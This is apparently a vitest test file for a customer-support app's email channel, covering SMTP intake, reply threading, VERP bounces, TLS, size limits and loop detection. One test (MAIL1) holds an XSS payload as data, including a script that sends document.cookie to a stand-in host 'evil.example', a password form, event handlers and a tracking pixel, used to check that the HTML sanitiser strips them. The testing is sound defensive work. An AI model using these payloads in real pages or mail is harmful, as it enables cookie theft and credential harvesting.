import { readFileSync } from 'node:fs';
import nodemailer from 'nodemailer';
import { afterEach, describe, expect, it } from 'vitest';
import { conversationDoc, newId } from '../../shared/ids.ts';
import type { MessageEntry } from '../../shared/schema/message.ts';
import { SIM_DEFAULTS } from '../../sync-server/simulators/startSimulators.ts';
import { type ChannelHarness, WS, startChannelHarness } from '../helpers/channelHarness.ts';
import { waitUntil } from '../helpers/waitUntil.ts';

const CUSTOMER = 'ana@customer.example';
const SUPPORT = SIM_DEFAULTS.email.address;
const HOUR = 3_600_000;

describe('email channel through real SMTP (listener on port 0, simulated relay)', () => {
  let h: ChannelHarness;
  afterEach(async () => {
    await h?.dispose();
  });
  const start = (opts: { smtpListener?: Record<string, unknown> } = {}) => startChannelHarness({ email: { deliveredAfterMs: HOUR }, ...opts });
  const email = () => h.app.server.channels.email;
  const emailConversations = async () => (await h.summaries()).filter((s) => s.channel === 'email');

  /** The customer writes a new mail; resolves with the conversation it landed in. */
  async function customerWrites(text = 'My order #1234 has not arrived.', extra: Parameters<ChannelHarness['sims']['email']['customerSends']>[1] extends infer T ? Partial<T> : never = {}) {
    const sent = await h.sims.email.customerSends(CUSTOMER, { name: 'Ana Pérez', subject: 'Order 1234', text, ...extra });
    expect(sent.code).toBe(250);
    const conv = await waitUntil(async () => {
      for (const s of await emailConversations()) {
        const messages = await h.messages(s.id);
        if (messages.some((m) => m.text.includes(text))) return s;
      }
      return null;
    }, 'the mail in a conversation');
    return { conv, messageId: sent.messageId };
  }

  /** The agent replies (optionally with an HTML alternative); resolves with the entry id and the relayed mail. */
  async function agentReplies(conversationId: string, text: string, html?: string) {
    const before = h.sims.email.relayed.length;
    const { doc } = await h.app.openDoc(conversationDoc(WS, conversationId), h.token);
    const entry: MessageEntry = { id: newId(), kind: 'message', author: { type: 'agent', id: h.agentId }, text, createdAt: Date.now(), ...(html ? { email: { html } } : {}) };
    const messages = doc.getArray<MessageEntry>('messages');
    messages.insert(messages.length, [entry]);
    const mail = await h.sims.email.waitForRelayed(before + 1);
    await waitUntil(async () => (await h.receipt(conversationId, entry.id))?.status === 'sent', 'sent');
    return { id: entry.id, mail };
  }

  it('stores an inbound mail in a new conversation: contact, subject, sanitised HTML, attachments listed', async () => {
    h = await start();
    const { conv } = await customerWrites('My order #1234 has not arrived.', {
      html: '<p>My order <b>#1234</b> has not arrived.</p>',
      attachments: [{ filename: 'receipt.pdf', content: Buffer.alloc(2048, 1), contentType: 'application/pdf' }],
    });
    expect(conv).toMatchObject({ channel: 'email', contactName: 'Ana Pérez', inboundCount: 1 });
    const [message] = await h.messages(conv.id);
    expect(message?.author.type).toBe('contact');
    expect(message?.text).toBe('My order #1234 has not arrived.');
    expect(message?.email).toEqual({
      subject: 'Order 1234',
      html: '<p>My order <b>#1234</b> has not arrived.</p>',
      attachments: [{ name: 'receipt.pdf', type: 'application/pdf', size: 2048 }],
    });
  });

  it('MAIL1: an attack payload in the HTML never reaches an agent', async () => {
    h = await start();
    const attack =
      '<p onmouseover="steal()">Hi<script>fetch("https://evil.example/?c="+document.cookie)</script></p>' +
      '<img src="https://tracker.example/pixel.gif" onerror="alert(1)" alt="logo">' +
      '<a href="javascript:alert(1)">click</a><a href="https://shop.example/order">order</a>' +
      '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>' +
      '<form action="https://evil.example"><input name="password"></form><svg onload="alert(1)"></svg>';
    const { conv } = await customerWrites('See the page', { html: attack });
    const [message] = await h.messages(conv.id);
    const html = message?.email?.html ?? '';
    for (const bad of ['<script', 'onmouseover', 'onerror', 'javascript:', '<iframe', '<style', '<form', '<input', '<svg', 'onload', 'tracker.example', 'evil.example']) {
      expect(html, bad).not.toContain(bad);
    }
    expect(html).toContain('<a href="https://shop.example/order" target="_blank" rel="noopener noreferrer nofollow">order</a>');
    expect(html).toContain('[image: logo]');
  });

  it('MAIL2: a re-delivered mail (same Message-ID) is accepted and stored once', async () => {
    h = await start();
    const { conv, messageId } = await customerWrites('First try');
    const again = await h.sims.email.customerSends(CUSTOMER, { subject: 'Order 1234', text: 'First try', messageId });
    expect(again.code).toBe(250);
    await h.app.server.conversations.idle();
    expect(await h.messages(conv.id)).toHaveLength(1);
    expect(await emailConversations()).toHaveLength(1);
  });

  it('threads a reply to our mail (In-Reply-To) into its conversation; a new email from the same sender starts a new one', async () => {
    h = await start();
    const { conv } = await customerWrites('Where is my order?');
    const { mail } = await agentReplies(conv.id, 'It ships today.');
    const reply = await h.sims.email.customerSends(CUSTOMER, { text: 'Great, thanks!', inReplyTo: mail.messageId });
    expect(reply.code).toBe(250);
    await waitUntil(async () => (await h.messages(conv.id)).some((m) => m.text === 'Great, thanks!'), 'the reply in the same conversation');
    await customerWrites('Another question, new subject', { subject: 'Returns' });
    const convs = await emailConversations();
    expect(convs).toHaveLength(2);
    expect(new Set(convs.map((c) => c.contactId)).size).toBe(1);
  });

  it('sends a reply with our Message-ID, reply headers, a VERP return path with DSN parameters and a plain-text part', async () => {
    h = await start();
    const { conv, messageId: customerId } = await customerWrites('Where is my order?');
    const { id, mail } = await agentReplies(conv.id, 'Hi Ana, it ships today.');
    expect(mail.messageId).toBe(`<c_${conv.id}.m_${id}@acme-outdoor.example>`);
    expect(mail.inReplyTo).toBe(customerId);
    expect(mail.references).toEqual([customerId]);
    expect(mail.subject).toBe('Re: Order 1234');
    expect(mail.from).toBe(SUPPORT);
    expect(mail.to).toEqual([CUSTOMER]);
    expect(mail.envelopeFrom).toMatch(new RegExp(`^bounces\\+${id}\\.[0-9a-f]{16}@acme-outdoor\\.example$`));
    expect(mail.envid).toBe(id);
    expect(mail.notify).toEqual(['FAILURE', 'DELAY']);
    expect(mail.contentType).toMatch(/^text\/plain/);
    expect(mail.text).toBe('Hi Ana, it ships today.');
    expect(mail.headers['x-loop']).toBe(`switchboard ${SUPPORT}`);
    expect(await h.receipt(conv.id, id)).toMatchObject({ status: 'sent' });
  });

  it('MAIL5: sends a rich reply as HTML + plain alternative, with the HTML reduced to the canned-response markup', async () => {
    h = await start();
    const { conv } = await customerWrites('Refund?');
    const { mail } = await agentReplies(conv.id, 'Your refund is on its way.', '<p>Your <strong>refund</strong> is on its way.<script>alert(1)</script><img src="https://x.example/p.gif"></p>');
    expect(mail.contentType).toMatch(/^multipart\/alternative/);
    expect(mail.text).toBe('Your refund is on its way.');
    expect(mail.html).toBe('<p>Your <strong>refund</strong> is on its way.</p>');
  });

  it('an RFC 3464 bounce to the VERP address marks the reply failed with the diagnostic', async () => {
    h = await start();
    const { conv } = await customerWrites('Hello');
    const { id, mail } = await agentReplies(conv.id, 'Hello back');
    expect(await h.sims.email.sendDsn(mail, 'failed')).toBe(250);
    const receipt = await waitUntil(async () => {
      const r = await h.receipt(conv.id, id);
      return r?.status === 'failed' ? r : null;
    }, 'failed');
    expect(receipt.code).toBe('5.1.1');
    expect(receipt.reason).toContain('5.1.1 no such mailbox');
    expect(receipt.reason).toContain('User unknown');
    // Never "delivered" afterwards: the no-bounce timer was stopped.
    expect(await email().sweep(Date.now() + 2 * HOUR)).toBe(0);
    expect((await h.receipt(conv.id, id))?.status).toBe('failed');
    // The same bounce again changes nothing and is recorded once.
    await h.sims.email.sendDsn(mail, 'failed');
    expect(h.app.server.channels.ledger.statusEvents(id).filter((e) => e.status === 'failed')).toHaveLength(1);
  });

  it('a plain-text bounce is matched by its VERP address alone', async () => {
    h = await start();
    const { conv } = await customerWrites('Hello');
    const { id, mail } = await agentReplies(conv.id, 'Hello back');
    expect(await h.sims.email.sendPlainBounce(mail)).toBe(250);
    const receipt = await waitUntil(async () => {
      const r = await h.receipt(conv.id, id);
      return r?.status === 'failed' ? r : null;
    }, 'failed');
    expect(receipt.code).toBe('bounce');
    expect(receipt.reason).toMatch(/^Bounced: .*no mailbox here/);
  });

  it('no bounce within the configured time marks the reply delivered (fake clock); a delayed DSN extends the wait; a late bounce still fails it', async () => {
    h = await start();
    const { conv } = await customerWrites('Hello');
    const first = await agentReplies(conv.id, 'First reply');
    const sentAt = Date.now();
    expect(await email().sweep(sentAt + HOUR / 2)).toBe(0);
    expect((await h.receipt(conv.id, first.id))?.status).toBe('sent');

    const second = await agentReplies(conv.id, 'Second reply');
    await h.sims.email.sendDsn(second.mail, 'delayed');
    await waitUntil(() => h.app.server.channels.ledger.statusEvents(second.id).some((e) => e.providerStatus === 'dsn-delayed'), 'the delayed DSN');

    // An hour later the first is delivered; the second still waits (its DSN said "delayed").
    expect(await email().sweep(sentAt + HOUR + 1_000)).toBe(1);
    expect((await h.receipt(conv.id, first.id))?.status).toBe('delivered');
    expect((await h.receipt(conv.id, second.id))?.status).toBe('sent');

    expect(await email().sweep(sentAt + 2 * HOUR + 5_000)).toBe(1);
    expect((await h.receipt(conv.id, second.id))?.status).toBe('delivered');

    // Failed after delivered is allowed: a bounce that comes late still wins.
    await h.sims.email.sendDsn(first.mail, 'failed');
    await waitUntil(async () => (await h.receipt(conv.id, first.id))?.status === 'failed', 'failed after delivered');
  });

  it('MAIL4: refuses a bounce to a forged VERP address and mail to unknown mailboxes, clearly and without changes', async () => {
    h = await start();
    const { conv } = await customerWrites('Hello');
    const { id, mail } = await agentReplies(conv.id, 'Hello back');
    const forged = mail.envelopeFrom.replace(/\.[0-9a-f]{16}@/, '.0000000000000000@');
    const dsn = `From: MAILER-DAEMON@mx.example\r\nTo: ${forged}\r\nSubject: Undelivered\r\n\r\nUser unknown\r\n`;
    expect(await h.sims.email.sendRaw('', [forged], dsn)).toBe(550);
    expect(await h.sims.email.sendRaw('', [`bounces+${id}@acme-outdoor.example`], dsn)).toBe(550);
    expect(await h.sims.email.sendRaw('x@customer.example', ['nobody@acme-outdoor.example'], 'Subject: hi\r\n\r\nhi\r\n')).toBe(550);
    expect((await h.receipt(conv.id, id))?.status).toBe('sent');
    expect(await emailConversations()).toHaveLength(1);
  });

  it('offers STARTTLS with a configured certificate: a sender that requires TLS gets its mail in, the customer mail servers use it too', async () => {
    const tls = { keyFile: 'tests/fixtures/smtp-tls/key.pem', certFile: 'tests/fixtures/smtp-tls/cert.pem' };
    const requireTls = (port: number) =>
      nodemailer.createTransport({ host: '127.0.0.1', port, secure: false, requireTLS: true, tls: { ca: readFileSync(tls.certFile), servername: 'localhost' } });
    const mail = { from: CUSTOMER, to: SUPPORT, subject: 'Over TLS', text: 'Sent over STARTTLS.' };

    // Without a certificate the listener speaks plain SMTP only: a sender that insists on TLS gives up.
    h = await start();
    await expect(requireTls(email().smtpPort!).sendMail(mail)).rejects.toThrow(/STARTTLS/i);
    await h.dispose();

    h = await start({ smtpListener: { tls } });
    const info = await requireTls(email().smtpPort!).sendMail(mail);
    expect(info.response).toMatch(/^250/);
    await waitUntil(async () => {
      for (const c of await emailConversations()) if ((await h.messages(c.id)).some((m) => m.text.includes('Sent over STARTTLS.'))) return true;
      return false;
    }, 'the TLS mail in a conversation');
    await customerWrites('And this one from the customer’s own mail server.');
  });

  it('refuses mail above the size limit with 552 and mail without a From address with 550, storing nothing', async () => {
    h = await start({ smtpListener: { maxBytes: 4096 } });
    const big = await h.sims.email.customerSends(CUSTOMER, { subject: 'Big', text: 'x'.repeat(20_000) });
    expect(big.code).toBe(552);
    expect(big.response).toContain('Message too big: the limit is 4096 bytes');
    expect(await h.sims.email.sendRaw('x@customer.example', [SUPPORT], 'Subject: who am I\r\nMessage-ID: <a@b.example>\r\n\r\nhi\r\n')).toBe(550);
    await h.app.server.conversations.idle();
    expect(await emailConversations()).toEqual([]);
  });

  it('MAIL3: an out-of-office reply is stored flagged automated and does not reopen a resolved conversation', async () => {
    h = await start();
    const { conv } = await customerWrites('Hello');
    const { mail } = await agentReplies(conv.id, 'We fixed it. Anything else?');
    await h.app.server.conversations.setStatus(WS, conv.id, 'resolved', 'Dana Reyes');
    const relayedBefore = h.sims.email.relayed.length;
    h.sims.email.customers.get(CUSTOMER)!.outcome = 'auto-reply';
    expect(await h.sims.email.react(mail)).toBe(250);
    const auto = await waitUntil(async () => (await h.messages(conv.id)).find((m) => m.email?.automated), 'the automated message');
    expect(auto.email?.automated).toBe('auto-submitted');
    expect(auto.text).toContain('out of the office');
    await h.app.server.conversations.idle();
    expect((await h.summaries()).find((s) => s.id === conv.id)?.status).toBe('resolved');
    expect(h.sims.email.relayed.length).toBe(relayedBefore);
  });

  it('a 5xx from the relay fails the reply with its answer', async () => {
    h = await start();
    const { conv } = await customerWrites('Hello');
    h.sims.email.failNextRcpt(550, '5.1.1 <ana@customer.example>: Recipient address rejected');
    const { doc } = await h.app.openDoc(conversationDoc(WS, conv.id), h.token);
    const entry: MessageEntry = { id: newId(), kind: 'message', author: { type: 'agent', id: h.agentId }, text: 'Hello back', createdAt: Date.now() };
    doc.getArray<MessageEntry>('messages').insert(doc.getArray('messages').length, [entry]);
    const receipt = await waitUntil(async () => {
      const r = await h.receipt(conv.id, entry.id);
      return r?.status === 'failed' ? r : null;
    }, 'failed');
    expect(receipt.code).toBe('smtp-550');
    expect(receipt.reason).toContain('Recipient address rejected');
    expect(h.sims.email.relayed).toHaveLength(0);
  });

  it('a 4xx from the relay is retried by the outbox with the same Message-ID', async () => {
    h = await start();
    const { conv } = await customerWrites('Hello');
    h.sims.email.failNextRcpt(451, '4.7.1 Greylisted, please try again later');
    const { doc } = await h.app.openDoc(conversationDoc(WS, conv.id), h.token);
    const entry: MessageEntry = { id: newId(), kind: 'message', author: { type: 'agent', id: h.agentId }, text: 'Hello again', createdAt: Date.now() };
    doc.getArray<MessageEntry>('messages').insert(doc.getArray('messages').length, [entry]);
    const mail = await h.sims.email.waitForRelayed(1);
    expect(mail.messageId).toBe(`<c_${conv.id}.m_${entry.id}@acme-outdoor.example>`);
    await waitUntil(async () => (await h.receipt(conv.id, entry.id))?.status === 'sent', 'sent after the retry');
    expect(h.sims.email.relayed).toHaveLength(1);
  });

  it('MAIL3: our own mail coming back (X-Loop, or From our address) is accepted and dropped', async () => {
    h = await start();
    const looped = `From: Customer <ana@customer.example>\r\nTo: ${SUPPORT}\r\nSubject: Re: hi\r\nMessage-ID: <loop1@customer.example>\r\nX-Loop: switchboard ${SUPPORT}\r\n\r\nforwarded back\r\n`;
    expect(await h.sims.email.sendRaw('ana@customer.example', [SUPPORT], looped)).toBe(250);
    const fromUs = `From: Support <${SUPPORT}>\r\nTo: ${SUPPORT}\r\nSubject: hi\r\nMessage-ID: <loop2@acme-outdoor.example>\r\n\r\nto ourselves\r\n`;
    expect(await h.sims.email.sendRaw(SUPPORT, [SUPPORT], fromUs)).toBe(250);
    await h.app.server.conversations.idle();
    expect(await emailConversations()).toEqual([]);
  });

  it('a lost 250 (connection cut after DATA) is sent again with the same Message-ID: the mailbox holds one mail', async () => {
    h = await start();
    const { conv } = await customerWrites('Hello');
    h.sims.email.dropNextAnswer();
    const { doc } = await h.app.openDoc(conversationDoc(WS, conv.id), h.token);
    const entry: MessageEntry = { id: newId(), kind: 'message', author: { type: 'agent', id: h.agentId }, text: 'Hello once', createdAt: Date.now() };
    doc.getArray<MessageEntry>('messages').insert(doc.getArray('messages').length, [entry]);
    await waitUntil(async () => (await h.receipt(conv.id, entry.id))?.status === 'sent', 'sent after the resend');
    expect(h.sims.email.relayed).toHaveLength(2);
    expect(new Set(h.sims.email.relayed.map((m) => m.messageId)).size).toBe(1);
    expect(h.sims.email.mailboxes.get(CUSTOMER)?.filter((l) => l.direction === 'in')).toHaveLength(1);
  });

  it('with resendInDoubt off, a lost 250 fails the reply as "outcome unknown" instead of sending twice', async () => {
    h = await startChannelHarness({ email: { deliveredAfterMs: HOUR, resendInDoubt: false } });
    const { conv } = await customerWrites('Hello');
    h.sims.email.dropNextAnswer();
    const { doc } = await h.app.openDoc(conversationDoc(WS, conv.id), h.token);
    const entry: MessageEntry = { id: newId(), kind: 'message', author: { type: 'agent', id: h.agentId }, text: 'Hello once', createdAt: Date.now() };
    doc.getArray<MessageEntry>('messages').insert(doc.getArray('messages').length, [entry]);
    const receipt = await waitUntil(async () => {
      const r = await h.receipt(conv.id, entry.id);
      return r?.status === 'failed' ? r : null;
    }, 'failed');
    expect(receipt.code).toBe('outcome-unknown');
    expect(h.sims.email.relayed).toHaveLength(1);
  });
});
